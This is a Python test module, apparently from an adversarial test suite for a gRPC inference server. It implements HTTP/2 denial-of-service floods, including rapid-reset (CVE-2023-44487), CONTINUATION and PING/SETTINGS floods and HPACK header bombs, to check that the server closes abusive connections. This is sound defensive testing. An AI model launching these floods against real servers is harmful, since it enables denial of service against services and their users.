"""Floods of HTTP/2 frames that cost a server more than their sender, on one connection or more.

A flood continues until the server closes the connection. A flood beyond the limits of any real
client (`http2/calm.py`) that is still served is reported as wrong; so is another error code.
"""

import asyncio
import contextlib
import itertools
import struct
import time
from collections.abc import Awaitable, Callable, Iterator
from random import Random

from tests.adversarial.attack import Attack, Peer, Target
from tests.adversarial.http2_bytes import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    ENHANCE_YOUR_CALM,
    GOAWAY,
    GRPC_INFER,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    REFLECTION,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Heard,
    block,
    frame,
)

FLOOD_S, VERDICT_S = 3.0, 10.0
"""Longest duration of a flood, and the server's time to process the sent data."""
A_WRITE = 32 * 1024
"""Bytes of one write."""
MAX_SENT = 400_000
MAX_CALMED, MAX_CALMED_A_SECOND = 2 * 65_536, 2 * 32_768
"""Frames beyond which no flood is served, if each of them is charged once."""
CANCEL = struct.pack(">I", 8)
OPENING = PREFACE + frame(SETTINGS, 0, 0)
LIVE = "/inference.GRPCInferenceService/ServerLive"

Flood = Callable[[Random], Iterator[bytes]]
"""Yields the data piece by piece, one charged frame each; the first piece is the preface."""


def resets(random: Random) -> Iterator[bytes]:
    """Sends calls that are reset as soon as they begin (CVE-2023-44487)."""
    coded = block(random.choice((GRPC_INFER, LIVE, REFLECTION, "/no/Such")))
    yield b""
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, coded) + frame(RST_STREAM, 0, stream, CANCEL)


def faults(random: Random) -> Iterator[bytes]:
    """Sends calls that violate a rule, so that the server resets them (CVE-2025-8671)."""
    coded = block(GRPC_INFER)
    fault: Callable[[int], bytes] = random.choice(
        (lambda s: frame(WINDOW_UPDATE, 0, s, bytes(4)),
         lambda s: frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff") * 2,
         lambda s: frame(HEADERS, END_HEADERS, s, b"\x82"))
    )  # fmt: skip
    yield b""
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, coded) + fault(stream)


def pings(random: Random) -> Iterator[bytes]:
    """Sends PING, or unsolicited acknowledgements."""
    yield b""
    yield from itertools.repeat(frame(PING, random.choice((0, 0, ACK)), 0, b"flooding"))


def settings(random: Random) -> Iterator[bytes]:
    """Sends SETTINGS that are empty, large, or change windows back and forth."""
    pairs = random.choice((b"", struct.pack(">HI", 4, 0), struct.pack(">HI", 4, 2**31 - 1)))
    yield b""
    yield from itertools.repeat(frame(SETTINGS, 0, 0, pairs * random.choice((1, 1, 200))))


def priorities(random: Random) -> Iterator[bytes]:
    """Sends PRIORITY of existing or unknown streams, or of streams that depend on themselves."""
    yield b""
    for stream in itertools.cycle(range(1, random.choice((3, 2001)), 2)):
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 255))


def empty_data(random: Random) -> Iterator[bytes]:
    """Sends DATA of 0 or 1 byte, of an active call or a finished one."""
    yield frame(HEADERS, END_HEADERS, 1, block(random.choice((GRPC_INFER, "/no/Such"))))
    padded = random.random() < 0.3
    yield from itertools.repeat(frame(DATA, 8 * padded, 1, b"\x00" * padded))


def window_updates(random: Random) -> Iterator[bytes]:
    """Sends WINDOW_UPDATE by one byte, of the connection or of a call."""
    yield frame(HEADERS, END_HEADERS, 1, block(GRPC_INFER))
    yield from itertools.repeat(frame(WINDOW_UPDATE, 0, random.choice((0, 1)), b"\0\0\0\1"))


def unknown_frames(random: Random) -> Iterator[bytes]:
    """Sends frames of unknown kinds, which must be ignored, and repeated GOAWAY."""
    yield b""
    kind = random.choice((GOAWAY, 10, 12, 64, 255))
    yield from itertools.repeat(frame(kind, 0, 0, bytes(8)))


def late_trailers(random: Random) -> Iterator[bytes]:
    """Sends header blocks of finished calls."""
    coded = block("/no/Such")
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, coded)
    yield from itertools.repeat(frame(HEADERS, END_HEADERS | END_STREAM, 1, coded))


def continuations(random: Random) -> Iterator[bytes]:
    """Sends endless CONTINUATION (CVE-2024-27316), empty or of a few bytes."""
    yield frame(HEADERS, 0, 1, block(GRPC_INFER))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, random.choice((b"", b"\x20", b"\x82"))))


async def _ended(target: Target, flood: Iterator[bytes]) -> None:
    """Floods one connection until the server closes it."""
    heard, sent, began = Heard(), 0, time.monotonic()

    def is_too_much() -> bool:
        return sent > MAX_CALMED + MAX_CALMED_A_SECOND * (time.monotonic() - began)

    async with target.connection(target.grpc_port) as peer:
        listening = asyncio.create_task(heard.listen(peer))
        with contextlib.suppress(ConnectionError):
            await peer.send(OPENING, next(flood))
            while not listening.done() and sent < MAX_SENT and _goes_on(target, began):
                piece = next(flood)
                count = max(1, A_WRITE // len(piece))
                await peer.send(piece, *itertools.islice(flood, count - 1))
                sent += count
                await asyncio.sleep(0)  # the server's frames are read, too
        await asyncio.wait([listening], timeout=VERDICT_S if is_too_much() else 0.1)
        is_closed = listening.done()
        listening.cancel()
        await asyncio.gather(listening, return_exceptions=True)
    if heard.parting not in (None, ENHANCE_YOUR_CALM):
        target.wrong(f"a flood was ended by error {heard.parting}")
    elif not is_closed and is_too_much():
        target.wrong(f"{sent} frames of a flood were taken, and it was served on")
    elif heard.parting == ENHANCE_YOUR_CALM:
        target.count("ENHANCE_YOUR_CALM")
    else:
        target.count("closed" if is_closed else "within limits")


def _goes_on(target: Target, began: float) -> bool:
    lasts_s = time.monotonic() - began
    return lasts_s < (FLOOD_S / 4 if target.over else FLOOD_S)


def flooding(flood: Flood) -> Callable[[Target, Random], Awaitable[None]]:
    """Returns the attack with one kind of frames."""

    async def run(target: Target, random: Random) -> None:
        seeds = [Random(random.random()) for _ in range(random.choice((1, 1, 8)))]
        await asyncio.gather(*(_ended(target, flood(seed)) for seed in seeds))

    return run


async def _read_away(peer: Peer) -> None:
    with contextlib.suppress(ConnectionError):  # the sending task counts that
        while await peer.reader.read(65_536):
            pass


async def header_bombs(target: Target, random: Random) -> None:
    """Sends one large field for the header table, and blocks that consist of references to it."""
    name, value = b"x-large", b"v" * random.choice((100, 3_900))
    field = b"\x40\x07" + name + _length(len(value)) + value
    usual = block(random.choice((GRPC_INFER, LIVE)))
    bomb = usual + b"\xbe" * random.choice((10, 1_000, 16_000))
    async with target.connection(target.grpc_port) as peer:
        reading = asyncio.create_task(_read_away(peer))
        await peer.send(OPENING, frame(HEADERS, END_HEADERS, 1, usual + field))
        for stream in range(3, 2_001, 2):
            if target.over or reading.done():
                break
            await peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb))
        target.count("closed" if reading.done() else "served")
        reading.cancel()


def _length(size: int) -> bytes:
    """Encodes a length in HPACK (RFC 7541, 5.1) with 7 bits."""
    if size < 127:
        return bytes([size])
    out, size = b"\x7f", size - 127
    while size > 127:
        out, size = out + bytes([size & 127 | 128]), size >> 7
    return out + bytes([size])


async def new_heads(target: Target, random: Random) -> None:
    """Sends calls whose headers are all new, with many fields: no cached block matches."""
    async with target.connection(target.grpc_port) as peer:
        reading = asyncio.create_task(_read_away(peer))
        await peer.send(OPENING)
        fields = random.choice((1, 20, 100))
        for stream in range(1, 8_001, 2):
            if target.over or reading.done():
                break
            more = [(f"x-{n}-{stream}", "v" * random.choice((1, 60))) for n in range(fields)]
            coded = block(random.choice((LIVE, "/no/Such")), *more)
            await peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, coded))
        target.count("closed" if reading.done() else "served")
        reading.cancel()


async def torn_frames(target: Target, random: Random) -> None:
    """Sends valid frames, invalid ones and random bytes, in pieces of any size."""
    for _ in range(20):
        if target.over:
            break
        async with target.connection(target.grpc_port) as peer:
            reading = asyncio.create_task(_read_away(peer))
            content = OPENING if random.random() < 0.9 else random.randbytes(30)
            for _ in range(200):
                stream = random.choice((0, 1, 2, 3, 2**31 - 1))
                payload = random.randbytes(random.choice((0, 1, 4, 5, 8, 100)))
                content += frame(random.randrange(12), random.randrange(256), stream, payload)
            size = random.choice((1, 7, 100, 65_536))
            for at in range(0, min(len(content), 400 * size), size):
                await peer.send(content[at : at + size])
            reading.cancel()
    target.count("rounds")


async def windows_of_waiting_calls(target: Target, random: Random) -> None:
    """Queues thousands of responses, and sends SETTINGS that affect each of their windows."""
    narrow, wide = (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, n)) for n in (0, 1))
    coded = block("/inference.GRPCInferenceService/ServerMetadata")
    async with target.connection(target.grpc_port) as peer:
        reading = asyncio.create_task(_read_away(peer))
        await peer.send(PREFACE, narrow)
        for stream in range(1, 4_001, 2):
            await peer.send(
                frame(HEADERS, END_HEADERS, stream, coded),
                frame(DATA, END_STREAM, stream, bytes(5)),
            )
        while not target.over and not reading.done():
            await peer.send((wide + narrow) * 100)
        target.count("closed" if reading.done() else "served")
        reading.cancel()


ATTACKS = (
    *(
        Attack(f"HTTP/2: {name}", flooding(flood))
        for name, flood in (
            ("a flood of resets", resets),
            ("a flood of calls that are reset for it", faults),
            ("a flood of PING", pings),
            ("a flood of SETTINGS", settings),
            ("a flood of PRIORITY", priorities),
            ("a flood of empty DATA", empty_data),
            ("a flood of WINDOW_UPDATE", window_updates),
            ("a flood of unknown frames", unknown_frames),
            ("a flood of late trailers", late_trailers),
            ("CONTINUATION without an end", continuations),
        )
    ),
    Attack("HTTP/2: header bombs", header_bombs),
    Attack("HTTP/2: heads that are all new", new_heads),
    Attack("HTTP/2: torn and wrong frames", torn_frames),
    Attack("HTTP/2: windows of waiting calls", windows_of_waiting_calls),
    Attack("HTTP/2: resets by strangers", flooding(resets), "keyed"),
    Attack("HTTP/2: PING by strangers", flooding(pings), "keyed"),
)
